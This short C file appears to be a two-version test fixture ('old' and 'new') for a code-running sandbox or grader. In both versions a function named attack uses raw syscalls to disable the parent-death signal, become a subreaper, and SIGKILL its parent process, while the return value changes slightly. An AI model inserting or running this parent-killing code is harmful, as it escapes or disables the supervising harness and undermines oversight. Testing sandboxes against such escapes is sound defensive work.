//// old
#include <sys/prctl.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    syscall(SYS_prctl, PR_SET_PDEATHSIG, 0, 0, 0, 0);
    syscall(SYS_prctl, PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
    syscall(SYS_kill, getppid(), 9);
    return x;
}
//// new
#include <sys/prctl.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    syscall(SYS_prctl, PR_SET_PDEATHSIG, 0, 0, 0, 0);
    syscall(SYS_prctl, PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
    syscall(SYS_kill, getppid(), 9);
    return x + 1;
}
